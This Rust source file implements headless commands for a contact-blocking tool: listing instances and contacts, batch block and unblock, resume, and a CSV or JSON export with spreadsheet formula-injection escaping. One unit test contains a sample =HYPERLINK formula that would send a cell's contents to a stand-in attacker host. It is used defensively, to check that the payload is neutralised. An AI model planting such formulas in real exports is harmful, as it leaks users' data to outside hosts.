//! Headless commands for scripts and cron: `instances`, `list`, `block`,
//! `unblock`, `resume`, `export`. They share the worker, the rate budget,
//! the batch runner and the ledger with the terminal UI.

use std::io::{IsTerminal, Write};
use std::path::{Path, PathBuf};
use std::sync::Arc;

use serde_json::{Value, json};
use tokio::sync::mpsc;

use crate::api::{ApiClient, ClientConfig};
use crate::app::batch::{Batch, Item, items_left};
use crate::app::{ApiJob, ApiResult, ErrorInfo, Msg};
use crate::cli::{ChangeArgs, Command, ExportArgs, ListArgs, ProfileAction};
use crate::contacts::ContactStore;
use crate::ledger::{BUSY_NOTICE, BUSY_WAIT, KnownState, Ledger};
use crate::number::list::{Entry, Source, file_entries, needs_no_region, read_list};
use crate::number::{Region, Target, format_phone, phone_digits, shown_jid};
use crate::profile::Profile;
use crate::worker::{self, WorkerContext};

/// Exit codes of the headless commands.
pub mod exit {
    /// Everything worked.
    pub const OK: u8 = 0;
    /// Something inside the app failed (ledger, data folder...).
    pub const INTERNAL: u8 = 1;
    /// Bad arguments or profile.
    pub const USAGE: u8 = 2;
    /// The API refused or could not be reached, for every request.
    pub const API: u8 = 3;
    /// Some requests of a batch failed, others worked.
    pub const PARTIAL: u8 = 4;
}

/// A failure: exit code and one-line reason.
#[derive(Debug)]
pub struct Failure {
    /// The exit code.
    pub code: u8,
    /// Why, in one line.
    pub message: String,
}

fn fail(code: u8, message: impl Into<String>) -> Failure {
    Failure {
        code,
        message: message.into(),
    }
}

/// The worker and ledger for one command.
struct Session {
    profile: Profile,
    jobs: mpsc::UnboundedSender<ApiJob>,
    results: mpsc::UnboundedReceiver<Msg>,
    ledger: Ledger,
}

impl Session {
    fn open(profile: Profile, data_dir: &Path) -> Result<Session, Failure> {
        let internal = |e: &dyn std::fmt::Display| fail(exit::INTERNAL, e.to_string());
        let (worker_ledger, notice) = Ledger::open_waiting(data_dir, BUSY_WAIT, || {
            eprintln!("ryze-contacts: {BUSY_NOTICE}");
        })
        .map_err(|e| internal(&e))?;
        if let Some(notice) = notice {
            eprintln!("ryze-contacts: {notice}");
        }
        let (ledger, _) = Ledger::open(data_dir).map_err(|e| internal(&e))?;
        let client = ApiClient::new(ClientConfig::default()).map_err(|e| internal(&e))?;
        let mut ctx = WorkerContext::new(profile.instances.clone(), client, worker_ledger);
        ctx.cache_dir = Some(data_dir.to_path_buf());
        let (tx, results) = mpsc::unbounded_channel();
        let jobs = worker::spawn(ctx, tx);
        Ok(Session {
            profile,
            jobs,
            results,
            ledger,
        })
    }

    /// Sends one job and waits for its result (budget reports skipped).
    async fn ask(&mut self, job: ApiJob) -> Result<ApiResult, Failure> {
        self.jobs
            .send(job)
            .map_err(|_| fail(exit::INTERNAL, "the API worker stopped"))?;
        self.next().await
    }

    async fn next(&mut self) -> Result<ApiResult, Failure> {
        loop {
            match self.results.recv().await {
                Some(Msg::Api(result)) => return Ok(result),
                Some(_) => continue,
                None => return Err(fail(exit::INTERNAL, "the API worker stopped")),
            }
        }
    }

    fn instance_index(&self, name: &str) -> Result<usize, Failure> {
        self.profile
            .instances
            .iter()
            .position(|i| i.name == name)
            .ok_or_else(|| {
                let names: Vec<&str> = self
                    .profile
                    .instances
                    .iter()
                    .map(|i| i.name.as_str())
                    .collect();
                fail(
                    exit::USAGE,
                    format!(
                        "no instance \"{name}\" in the profile (it has: {})",
                        names.join(", ")
                    ),
                )
            })
    }

    fn known(&self) -> Result<Vec<KnownState>, Failure> {
        self.ledger
            .known()
            .map_err(|e| fail(exit::INTERNAL, e.to_string()))
    }
}

/// Runs a headless command; output goes to stdout, progress to stderr.
pub async fn run(command: Command, profile: Profile, data_dir: PathBuf) -> Result<(), Failure> {
    match command {
        Command::Instances(out) => instances(Session::open(profile, &data_dir)?, out.json).await,
        Command::List(args) => list(Session::open(profile, &data_dir)?, args).await,
        Command::Block(args) => change(Session::open(profile, &data_dir)?, args, true).await,
        Command::Unblock(args) => change(Session::open(profile, &data_dir)?, args, false).await,
        Command::Resume(out) => resume(Session::open(profile, &data_dir)?, out.json).await,
        Command::Export(args) => export(Session::open(profile, &data_dir)?, args),
        Command::Profile {
            action: ProfileAction::Check(out),
        } => {
            let warnings = profile.warnings.clone();
            let n = profile.instances.len();
            let result = instances(Session::open(profile, &data_dir)?, out.json).await;
            if !out.json {
                println!("profile: {n} instance(s), {} warning(s)", warnings.len());
            }
            result
        }
        Command::Emulator(_) | Command::Init | Command::Completions { .. } | Command::Man => {
            Err(fail(exit::INTERNAL, "not a headless command"))
        }
    }
}

fn print_json(value: &Value) {
    println!(
        "{}",
        serde_json::to_string_pretty(value).unwrap_or_default()
    );
}

async fn instances(mut s: Session, json_out: bool) -> Result<(), Failure> {
    let ApiResult::Instances(mut states) = s.ask(ApiJob::LoadInstances).await? else {
        return Err(fail(exit::INTERNAL, "unexpected answer from the worker"));
    };
    states.sort_by_key(|(i, _)| *i);
    let mut rows = Vec::new();
    let mut failures = 0;
    for (i, state) in states {
        let name = s.profile.instances[i].name.clone();
        let (state, error) = match state {
            Ok(Some(st)) => (st.state, None),
            Ok(None) => ("not found".to_string(), None),
            Err(e) => {
                failures += 1;
                ("error".to_string(), Some(e.summary()))
            }
        };
        rows.push((name, state, error));
    }
    if json_out {
        print_json(&Value::Array(
            rows.iter()
                .map(|(n, st, e)| json!({"instance": n, "state": st, "error": e}))
                .collect(),
        ));
    } else {
        for (name, state, error) in &rows {
            match error {
                Some(e) => println!("{name:<16} {state:<12} {e}"),
                None => println!("{name:<16} {state}"),
            }
        }
    }
    match failures {
        0 => Ok(()),
        n if n == rows.len() => Err(fail(exit::API, "no instance state could be read")),
        _ => Err(fail(
            exit::PARTIAL,
            format!("{failures} instance state(s) could not be read"),
        )),
    }
}

/// Which instances a command acts on.
fn targets(s: &Session, instance: Option<&str>, all: bool) -> Result<Vec<usize>, Failure> {
    if all {
        return Ok((0..s.profile.instances.len()).collect());
    }
    match instance {
        Some(name) => Ok(vec![s.instance_index(name)?]),
        None if s.profile.instances.len() == 1 => Ok(vec![0]),
        None => Err(fail(
            exit::USAGE,
            "the profile has several instances: name one with --instance NAME, or use --all",
        )),
    }
}

async fn list(mut s: Session, args: ListArgs) -> Result<(), Failure> {
    let chosen = match &args.instance {
        Some(name) => vec![s.instance_index(name)?],
        None => (0..s.profile.instances.len()).collect(),
    };
    let known = s.known()?;
    let mut rows = Vec::new();
    let mut errors = Vec::new();
    for i in chosen {
        let name = s.profile.instances[i].name.clone();
        let store = match s.ask(ApiJob::LoadContacts { instance: i }).await? {
            ApiResult::Contacts {
                result: Ok(store), ..
            } => store,
            ApiResult::Contacts { result: Err(e), .. } => {
                errors.push(format!("{name}: {}", e.summary()));
                continue;
            }
            _ => return Err(fail(exit::INTERNAL, "unexpected answer from the worker")),
        };
        if store.skipped() > 0 {
            eprintln!(
                "ryze-contacts: warning: {name}: {} row(s) of the server's list were not valid contacts and were skipped",
                store.skipped()
            );
        }
        rows.extend(contact_rows(&name, &store, &known, args.blocked));
    }
    let found = rows.len();
    if args.json {
        print_json(&Value::Array(rows));
    } else {
        for r in &rows {
            println!(
                "{:<12} {:<20} {:<10} {}",
                r["instance"].as_str().unwrap_or_default(),
                r["number"].as_str().unwrap_or_default(),
                r["state"].as_str().unwrap_or("-"),
                r["name"].as_str().unwrap_or_default()
            );
        }
    }
    for e in &errors {
        eprintln!("ryze-contacts: {e}");
    }
    if errors.is_empty() {
        Ok(())
    } else if found == 0 {
        Err(fail(exit::API, errors.join("; ")))
    } else {
        Err(fail(exit::PARTIAL, errors.join("; ")))
    }
}

fn contact_rows(
    instance: &str,
    store: &Arc<ContactStore>,
    known: &[KnownState],
    blocked_only: bool,
) -> Vec<Value> {
    let state_of = |jid: &str, lid: Option<&str>| {
        known
            .iter()
            .find(|k| {
                k.instance == instance
                    && (k.jid == jid
                        || lid.is_some_and(|l| k.lid.as_deref() == Some(l) || k.jid == l))
            })
            .map(|k| if k.blocked { "blocked" } else { "unblocked" })
    };
    store
        .iter()
        .filter_map(|c| {
            let state = state_of(c.jid(), c.lid());
            if blocked_only && state != Some("blocked") {
                return None;
            }
            Some(json!({
                "instance": instance,
                "jid": c.jid(),
                "lid": c.lid(),
                "number": c.number(),
                "e164": c.digits().map(|d| format!("+{d}")),
                "name": c.display_name(),
                "state": state,
            }))
        })
        .collect()
}

/// The typed entries: the arguments, then the lines of `--from`.
fn entries(args: &ChangeArgs) -> Result<Vec<Entry>, Failure> {
    let mut entries: Vec<Entry> = args
        .numbers
        .iter()
        .enumerate()
        .map(|(i, text)| Entry {
            source: Source::Argument(i + 1),
            text: text.clone(),
        })
        .collect();
    if let Some(path) = &args.from {
        let text = std::fs::read_to_string(path)
            .map_err(|e| fail(exit::USAGE, format!("cannot read {}: {e}", path.display())))?;
        entries.extend(file_entries(&text));
    }
    if entries.is_empty() {
        return Err(fail(
            exit::USAGE,
            "no number given: pass numbers or --from FILE",
        ));
    }
    Ok(entries)
}

/// The country each chosen instance reads national forms in: the
/// profile's `region`, else its own number's, asked of the server only
/// when an entry needs it.
async fn regions(
    s: &mut Session,
    chosen: &[usize],
    entries: &[Entry],
) -> Result<Vec<Option<Region>>, Failure> {
    let mut regions: Vec<Option<Region>> = chosen
        .iter()
        .map(|&i| s.profile.instances[i].region)
        .collect();
    let needed = entries.iter().any(|e| !needs_no_region(&e.text));
    if needed
        && regions.iter().any(Option::is_none)
        && let ApiResult::Instances(states) = s.ask(ApiJob::LoadInstances).await?
    {
        for (index, state) in states {
            let own = state.ok().flatten().and_then(|st| st.own_region);
            if let Some(at) = chosen.iter().position(|&c| c == index) {
                regions[at] = regions[at].or(own);
            }
        }
    }
    Ok(regions)
}

async fn change(mut s: Session, args: ChangeArgs, block: bool) -> Result<(), Failure> {
    let entries = entries(&args)?;
    let chosen = targets(&s, args.instance.as_deref(), args.all)?;
    let regions = regions(&mut s, &chosen, &entries).await?;
    let named: Vec<(&str, Option<Region>)> = chosen
        .iter()
        .zip(&regions)
        .map(|(&i, region)| (s.profile.instances[i].name.as_str(), *region))
        .collect();
    let list = read_list(entries, &named);
    if !list.bad.is_empty() {
        let lines: Vec<String> = list
            .bad
            .iter()
            .map(|(entry, why)| format!("  {}: {why}", entry.source))
            .collect();
        let summary = format!(
            "{} number(s) could not be read:\n{}",
            list.bad.len(),
            lines.join("\n")
        );
        if !args.skip_invalid || list.good.is_empty() {
            return Err(fail(
                exit::USAGE,
                format!("nothing sent: {summary}\n(--skip-invalid sends the others)"),
            ));
        }
        eprintln!("ryze-contacts: skipped: {summary}");
    }
    for (entry, target) in &list.good {
        if !needs_no_region(&entry.text) {
            eprintln!(
                "ryze-contacts: {}: {} read as {}",
                entry.source,
                entry.text,
                target.preview()
            );
        }
    }
    let targets: Vec<Target> = list.good.into_iter().map(|(_, t)| t).collect();
    let items: Vec<Item> = chosen
        .iter()
        .flat_map(|&instance| {
            targets.iter().map(move |t| Item {
                instance,
                jid: t.jid(),
                lid: None,
                block,
                action: None,
            })
        })
        .collect();
    let names: Vec<&str> = named.iter().map(|(n, _)| *n).collect();
    let verb = if block { "block" } else { "unblock" };
    let label = format!(
        "{verb} {} number(s) on {} (command line)",
        targets.len(),
        names.join(", ")
    );
    let job = ApiJob::CreateBatch {
        label: label.clone(),
        items: items
            .iter()
            .map(|i| (i.instance, i.jid.clone(), None, block))
            .collect(),
    };
    let (id, actions) = match s.ask(job).await? {
        ApiResult::BatchCreated(Ok(created)) => created,
        ApiResult::BatchCreated(Err(e)) => return Err(fail(exit::INTERNAL, e.summary())),
        _ => return Err(fail(exit::INTERNAL, "unexpected answer from the worker")),
    };
    let mut batch = Batch::new(label, items, false, 0);
    batch.recorded(id, &actions);
    run_batch(&mut s, batch, args.json).await
}

async fn resume(mut s: Session, json_out: bool) -> Result<(), Failure> {
    let open = s
        .ledger
        .unfinished_batches()
        .map_err(|e| fail(exit::INTERNAL, e.to_string()))?;
    if open.is_empty() {
        if json_out {
            print_json(&json!([]));
        } else {
            println!("no unfinished batch");
        }
        return Ok(());
    }
    let mut worst = Ok(());
    for b in open {
        let items = items_left(&b, |name| s.instance_index(name).ok());
        let mut batch = Batch::new(format!("resume: {}", b.label), items, false, 0);
        batch.recorded(b.id, &[]);
        if let Err(e) = run_batch(&mut s, batch, json_out).await {
            worst = Err(e);
        }
    }
    worst
}

/// Sends a recorded batch through the worker, eight at a time, and reports
/// every item.
async fn run_batch(s: &mut Session, mut batch: Batch, json_out: bool) -> Result<(), Failure> {
    let id = batch.id.unwrap_or_default();
    let total = batch.total;
    let progress = std::io::stderr().is_terminal();
    for job in batch.next_jobs() {
        let _ = s.jobs.send(job);
    }
    let mut report = Vec::new();
    while !batch.is_finished() {
        let ApiResult::Block {
            instance,
            jid,
            block,
            result,
            ..
        } = s.next().await?
        else {
            continue;
        };
        batch.answered(instance, &jid, result.is_ok());
        for job in batch.next_jobs() {
            let _ = s.jobs.send(job);
        }
        report.push(item_report(
            &s.profile.instances[instance].name,
            &jid,
            block,
            result,
        ));
        if progress {
            eprint!(
                "\r{}/{total} answered, {} failed ",
                batch.done + batch.failed,
                batch.failed
            );
            let _ = std::io::stderr().flush();
        }
    }
    if progress {
        eprintln!();
    }
    let _ = s
        .ask(ApiJob::CloseBatch {
            batch: id,
            status: "done",
        })
        .await;
    if json_out {
        print_json(&json!({
            "batch": id,
            "label": batch.label,
            "done": batch.done,
            "failed": batch.failed,
            "results": report,
        }));
    } else {
        for r in &report {
            println!(
                "{:<12} {:<20} {}",
                r["instance"].as_str().unwrap_or_default(),
                r["number"].as_str().unwrap_or_default(),
                r["outcome"].as_str().unwrap_or_default()
            );
        }
    }
    match (batch.done, batch.failed) {
        (_, 0) => Ok(()),
        (0, failed) => Err(fail(exit::API, format!("all {failed} request(s) failed"))),
        (done, failed) => Err(fail(
            exit::PARTIAL,
            format!("{failed} of {} request(s) failed", done + failed),
        )),
    }
}

fn item_report(
    instance: &str,
    jid: &str,
    block: bool,
    result: Result<crate::app::BlockDone, ErrorInfo>,
) -> Value {
    let number = shown_jid(jid);
    let e164 = phone_digits(jid).map(|d| format!("+{d}"));
    match result {
        Ok(done) => {
            let state = if done.outcome.blocked {
                "blocked"
            } else {
                "unblocked"
            };
            json!({
                "instance": instance,
                "number": number,
                "e164": e164,
                "jid": jid,
                "ok": true,
                "blocked": done.outcome.blocked,
                "contact_jid": done.outcome.contact_jid,
                "blocked_count": done.outcome.blocked_count,
                "outcome": format!("{state} (blocked_count {})", done.outcome.blocked_count.map_or("?".to_string(), |n| n.to_string())),
            })
        }
        Err(e) => json!({
            "instance": instance,
            "number": number,
            "e164": e164,
            "jid": jid,
            "ok": false,
            "asked": if block { "block" } else { "unblock" },
            "status": e.status,
            "error": e.message,
            "hint": e.hint,
            "outcome": format!("FAILED: {}", e.summary()),
        }),
    }
}

/// One CSV cell, safe to open in a spreadsheet (OWASP's rules against
/// formula injection): a cell that starts with `=`, `+`, `-`, `@`, a tab
/// or a carriage return gets a leading `'` so it stays text, and any cell
/// so changed, or holding a comma, quote or line break, is quoted with
/// its quotes doubled.
pub fn csv_cell(field: &str) -> String {
    let formula = field.starts_with(['=', '+', '-', '@', '\t', '\r']);
    let field = if formula {
        format!("'{field}")
    } else {
        field.to_string()
    };
    if formula || field.contains([',', '"', '\n', '\r']) {
        format!("\"{}\"", field.replace('"', "\"\""))
    } else {
        field
    }
}

/// `YYYY-MM-DDTHH:MM:SSZ` for a Unix time.
pub fn rfc3339(unix: i64) -> String {
    let days = unix.div_euclid(86_400);
    let secs = unix.rem_euclid(86_400);
    // Civil date from days since 1970-01-01 (H. Hinnant's algorithm).
    let z = days + 719_468;
    let era = z.div_euclid(146_097);
    let doe = z.rem_euclid(146_097);
    let yoe = (doe - doe / 1460 + doe / 36_524 - doe / 146_096) / 365;
    let doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
    let mp = (5 * doy + 2) / 153;
    let day = doy - (153 * mp + 2) / 5 + 1;
    let month = if mp < 10 { mp + 3 } else { mp - 9 };
    let year = yoe + era * 400 + i64::from(month <= 2);
    format!(
        "{year:04}-{month:02}-{day:02}T{:02}:{:02}:{:02}Z",
        secs / 3600,
        secs / 60 % 60,
        secs % 60
    )
}

fn export(s: Session, args: ExportArgs) -> Result<(), Failure> {
    if let Some(name) = &args.instance {
        s.instance_index(name)?;
    }
    let rows: Vec<KnownState> = s
        .known()?
        .into_iter()
        .filter(|k| k.blocked && args.instance.as_ref().is_none_or(|n| &k.instance == n))
        .collect();
    if args.json {
        print_json(&Value::Array(
            rows.iter()
                .map(|k| {
                    json!({
                        "instance": k.instance,
                        "jid": k.jid,
                        "lid": k.lid,
                        "e164": phone_digits(&k.jid).map(|d| format!("+{d}")),
                        "number": phone_digits(&k.jid).map(format_phone),
                        "changed_at": rfc3339(k.changed_at),
                    })
                })
                .collect(),
        ));
        return Ok(());
    }
    let csv = csv_cell;
    println!("instance,jid,lid,e164,number,changed_at");
    for k in rows {
        let digits = phone_digits(&k.jid);
        println!(
            "{},{},{},{},{},{}",
            csv(&k.instance),
            csv(&k.jid),
            csv(k.lid.as_deref().unwrap_or_default()),
            csv(&digits.map(|d| format!("+{d}")).unwrap_or_default()),
            csv(&digits.map(format_phone).unwrap_or_default()),
            csv(&rfc3339(k.changed_at))
        );
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn csv_cells_never_run_as_formulas() {
        assert_eq!(csv_cell("sales"), "sales");
        assert_eq!(csv_cell("a,b"), "\"a,b\"");
        assert_eq!(
            csv_cell("=HYPERLINK(\"http://evil.example/?\"&A1;\"click\")@lid"),
            "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1;\"\"click\"\")@lid\""
        );
        for risky in ["+1", "-1+2", "@SUM(A1)", "\tx", "\rx"] {
            let cell = csv_cell(risky);
            assert!(cell.starts_with("\"'"), "{risky:?} -> {cell}");
        }
        assert_eq!(csv_cell("+447912345678"), "\"'+447912345678\"");
    }

    #[test]
    fn rfc3339_dates() {
        assert_eq!(rfc3339(0), "1970-01-01T00:00:00Z");
        assert_eq!(rfc3339(951_782_400), "2000-02-29T00:00:00Z");
        assert_eq!(rfc3339(1_795_000_000), "2026-11-18T11:06:40Z");
    }
}
